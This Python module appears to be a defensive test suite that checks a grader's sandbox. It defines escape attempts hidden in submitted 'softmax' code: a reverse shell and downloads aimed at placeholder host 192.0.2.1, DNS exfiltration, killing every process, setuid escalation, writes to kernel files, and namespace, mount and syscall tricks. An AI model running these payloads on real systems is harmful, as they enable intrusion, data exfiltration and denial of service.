"""Reach out of the sandbox: network, other processes, kernel, devices."""

from .attempt import Attempt

LISTENER = 48_117
"""A port on which the tests have a server that must not be reached."""

# A technique that works says so with a text that the tests look for.
_REPORT = """
def softmax(logits):
    reached = []
    for attempt in ATTEMPTS:
        try: reached.append(f"canary-{0:08} {attempt.__name__}: {attempt()}")
        except BaseException as error: print(type(error).__name__, error)
    raise RuntimeError(str(reached))
"""
_KERNEL = "not run: it reaches into the kernel of the machine"


def _reach(name: str, tries: str, source: str, elsewhere: str = _KERNEL) -> Attempt:
    return Attempt(
        name=name, threat="Reach out", tries=tries, source=source + _REPORT, elsewhere=elsewhere
    )


_REFUSED = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def require(result):
    if result == -1: raise OSError(ctypes.get_errno(), "refused")
    return result
"""
_NETWORK = "not run: it calls out"

REACHES = (
    _reach(
        "sockets of every family",
        "Some kind of socket leads out.",
        """
import socket
socket.setdefaulttimeout(1)
def connect(family, kind, address):
    with socket.socket(family, kind) as out:
        out.connect(address)
        return address
def ipv4(): return connect(socket.AF_INET, socket.SOCK_STREAM, ("192.0.2.1", 80))
def datagram(): return connect(socket.AF_INET, socket.SOCK_DGRAM, ("192.0.2.1", 53))
def ipv6(): return connect(socket.AF_INET6, socket.SOCK_STREAM, ("2001:db8::1", 80))
def raw(): return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
def packet(): return socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
def vsock(): return socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
def crypto(): return socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET)
def bluetooth(): return socket.socket(31, socket.SOCK_RAW, 1)
def can(): return socket.socket(socket.AF_CAN, socket.SOCK_RAW)
ATTEMPTS = [ipv4, datagram, ipv6, raw, packet, vsock, crypto, bluetooth, can]
""",
        _NETWORK,
    ),
    _reach(
        "the grader's own machine",
        "A server on localhost answers, such as the scheduler of a cluster.",
        """
import socket
def listener():
    with socket.create_connection(("127.0.0.1", LISTENER), 1) as out: return out.recv(100)
def all_ports():
    for port in (22, 80, 111, 631, 5432, 8786, 8787, 8888):
        try: socket.create_connection(("127.0.0.1", port), 0.2)
        except OSError: continue
        return port
    raise OSError
ATTEMPTS = [listener, all_ports]
""".replace("LISTENER", str(LISTENER)),
        elsewhere="",
    ),
    _reach(
        "DNS",
        "A name that is looked up carries an answer to whoever serves the name.",
        """
import socket
def look_up(): return socket.getaddrinfo("solution.example.org", 80)
def by_hand():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        return out.sendto(b"\\0\\1\\1\\0\\0\\1" + bytes(6) + b"\\1x\\0", ("192.0.2.53", 53))
ATTEMPTS = [look_up, by_hand]
""",
        _NETWORK,
    ),
    _reach(
        "a reverse shell",
        "A shell of the grader's machine is connected to somebody else's.",
        """
import os, pty, socket, subprocess
def shell():
    out = socket.create_connection(("192.0.2.1", 4444), 1)
    return subprocess.run(["/bin/sh", "-i"], stdin=out, stdout=out, stderr=out)
ATTEMPTS = [shell]
""",
        _NETWORK,
    ),
    _reach(
        "a download",
        "Weights or a solution are fetched.",
        """
import urllib.request
def solution(): return urllib.request.urlopen("http://192.0.2.1/solution.py", timeout=1).read()
def weights():
    import keras
    return keras.utils.get_file("w.h5", "http://192.0.2.1/w.h5")
def package():
    import subprocess, sys
    subprocess.run([sys.executable, "-c", "import urllib.request as u;"
                    "u.urlopen('http://192.0.2.1/', timeout=1)"], check=True, capture_output=True)
ATTEMPTS = [solution, weights, package]
""",
        _NETWORK,
    ),
    _reach(
        "abstract unix sockets",
        "Names without a file cross mount namespaces: a display, a message bus, the grader.",
        """
import socket
def connect(name):
    with socket.socket(socket.AF_UNIX) as out:
        out.connect(name)
        return out.recv(100)
def display(): return connect("\\0/tmp/.X11-unix/X0")
def bus(): return connect("/run/dbus/system_bus_socket")
def docker(): return connect("/var/run/docker.sock")
def grader(): return connect("\\0grader-of-the-attacks")
ATTEMPTS = [display, bus, docker, grader]
""",
        elsewhere="",
    ),
    _reach(
        "ptrace",
        "A debugger reads and writes another process.",
        _REFUSED
        + """
def attach_parent(): return require(libc.ptrace(16, os.getppid(), 0, 0))
def attach_first(): return require(libc.ptrace(16, 1, 0, 0))
def seize(): return require(libc.ptrace(0x4206, 2, 0, 0))
ATTEMPTS = [attach_parent, attach_first, seize]
""",
    ),
    _reach(
        "kill the grader and its siblings",
        "Signals end the grader, the warm process or a neighbour.",
        """
import os, signal
others = [n for n in range(2, 3000) if n != os.getpid()]
def each():
    hit = []
    for number in others:
        try: os.pidfd_open(number); os.kill(number, signal.SIGKILL)
        except OSError: continue  # threads of its own have no such descriptor
        hit.append(number)
    if not hit: raise OSError
    return hit
def everyone(): os.kill(-1, signal.SIGKILL); raise OSError
def group(): signal.signal(15, signal.SIG_IGN); os.killpg(0, signal.SIGTERM); raise OSError
def by_descriptor(): return os.pidfd_open(os.getppid() or 2)
ATTEMPTS = [each, everyone, group, by_descriptor]
""",
        elsewhere="",
    ),
    Attempt(
        name="kill from a child",
        threat="Reach out",
        tries="A child signals everyone, its own namespace's first process among them.",
        source="""
import os, signal
def softmax(logits):
    if os.fork() == 0:
        try: os.kill(1, signal.SIGKILL); os.kill(-1, signal.SIGKILL)
        finally: os._exit(0)
    os.wait()
    return np.ones(logits.shape) / logits.shape[-1]
""",
    ),
    _reach(
        "setuid programs",
        "A program with another owner's rights gives these rights away.",
        """
import glob, os, stat, subprocess
def programs():
    for path in glob.glob("/usr/bin/*"):
        if os.stat(path).st_mode & stat.S_ISUID: yield path
def become_root():
    tried = [["/usr/bin/su", "-c", "id -u"], ["/usr/bin/sudo", "-n", "id", "-u"]]
    for command in [c for c in tried if c[0] in set(programs())]:
        done = subprocess.run(command, capture_output=True, timeout=1)
        if done.stdout.strip() == b"0": return command
    raise OSError
def set_user(): os.setuid(0); return os.getuid()
def own_setuid():
    import shutil
    shutil.copy("/bin/sh", "/tmp/sh"); os.chmod("/tmp/sh", 0o6755)
    text = subprocess.run(["/tmp/sh", "-c", "id -u"], capture_output=True, text=True).stdout
    if text.strip() != "0": raise OSError
    return text
ATTEMPTS = [become_root, set_user, own_setuid]
""",
    ),
    _reach(
        "kernel interfaces",
        "Files under /proc and /sys change the kernel.",
        """
import os
def write(path):
    with open(path, "w") as file: return file.write("1")
def trigger(): return write("/proc/sysrq-trigger")
def handler(): return write("/proc/sys/kernel/core_pattern")
def helper(): return write("/sys/kernel/uevent_helper")
def score(): return write("/proc/self/oom_score_adj")
def groups(): return os.mkdir("/sys/fs/cgroup/mine")
def bpf(): return os.listdir("/sys/fs/bpf")
ATTEMPTS = [trigger, handler, helper, score, groups, bpf]
""",
    ),
    _reach(
        "devices",
        "Memory, disks and terminals are read as devices, or made anew.",
        """
import fcntl, os, stat
def nodes():
    odd = set(os.listdir("/dev")) & {"mem", "kmem", "sda", "vda", "nvme0n1", "kvm", "fuse", "kmsg"}
    if not odd: raise OSError
    return odd
def make_disk(): os.mknod("/tmp/disk", stat.S_IFBLK | 0o600, os.makedev(8, 0)); return 1
def type_for_others(): return [fcntl.ioctl(n, 0x5412, b"x") for n in (0, 1, 2)]
def terminal(): return os.open("/dev/tty", os.O_RDWR)
ATTEMPTS = [nodes, make_disk, type_for_others, terminal]
""",
    ),
    _reach(
        "namespaces of its own",
        "In a user namespace of its own it is root, and reaches more of the kernel.",
        _REFUSED
        + """
def user(): return require(libc.unshare(0x10000000))
def mount(): return require(libc.unshare(0x00020000))
def net(): return require(libc.unshare(0x40000000))
def clone(): return require(libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0))
def clone3(): return require(libc.syscall(435, 0, 0))
def enter(): return require(libc.setns(3, 0))
ATTEMPTS = [user, mount, net, clone, clone3, enter]
""",
    ),
    _reach(
        "mounts",
        "What hides /proc is taken away, or something is mounted over it.",
        _REFUSED
        + """
def uncover(): return require(libc.umount2(b"/proc", 2))
def fresh(): return require(libc.mount(b"proc", b"/tmp", b"proc", 0, None))
def writable(): return require(libc.mount(None, b"/", None, 32, None))
def root(): return os.chroot("/tmp") or 1
ATTEMPTS = [uncover, fresh, writable, root]
""",
    ),
    _reach(
        "io_uring and other late calls",
        "Ways into the kernel that filters forget.",
        _REFUSED
        + """
def ring(): return require(libc.syscall(425, 8, 0))
def keyring(): return require(libc.syscall(248, b"user", b"k", b"v", 1, -2))
def bpf(): return require(libc.syscall(321, 0, 0, 0))
def perf(): return require(libc.syscall(298, 0, 0, 0, 0, 0))
def fault(): return require(libc.syscall(323, 0))
def handle(): return require(libc.syscall(304, 0, 0, 0))
def fsopen(): return require(libc.syscall(430, b"proc", 0))
ATTEMPTS = [ring, keyring, bpf, perf, fault, handle, fsopen]
""",
    ),
    _reach(
        "the table of mounts",
        "Late calls list what is mounted, with the grader's own folders, where /proc is hidden.",
        _REFUSED
        + """
import struct
def mounts():
    found = (ctypes.c_uint64 * 256)()
    ask = ctypes.create_string_buffer(struct.pack("<IIQQQ", 32, 0, 2**64 - 1, 0, 0), 32)
    return require(libc.syscall(458, ask, found, 256, 0))
def one():
    ask = ctypes.create_string_buffer(struct.pack("<IIQQQ", 32, 0, 1, 0x38, 0), 32)
    return require(libc.syscall(457, ask, ctypes.create_string_buffer(8192), 8192, 0))
ATTEMPTS = [mounts, one]
""",
    ),
    _reach(
        "what is counted by user",
        "Watches of files, lists of rights and terminals: others of that user have none left.",
        _REFUSED
        + """
def watch(): return require(libc.inotify_init1(0))
def rights(): return require(libc.setxattr(b"/tmp", b"user.a", b"b", 1, 0))
def terminal(): return os.openpty()
ATTEMPTS = [watch, rights, terminal]
""",
    ),
    _reach(
        "descriptors passed along",
        "The grader keeps the descriptors that come with a message.",
        """
import array, os, socket
def flood():
    with socket.socket(fileno=os.dup(3)) as wire:
        null = os.open("/dev/null", os.O_RDONLY)
        for _ in range(50): socket.send_fds(wire, [b""], [null] * 100)
    raise OSError
ATTEMPTS = [flood]
""",
    ),
)
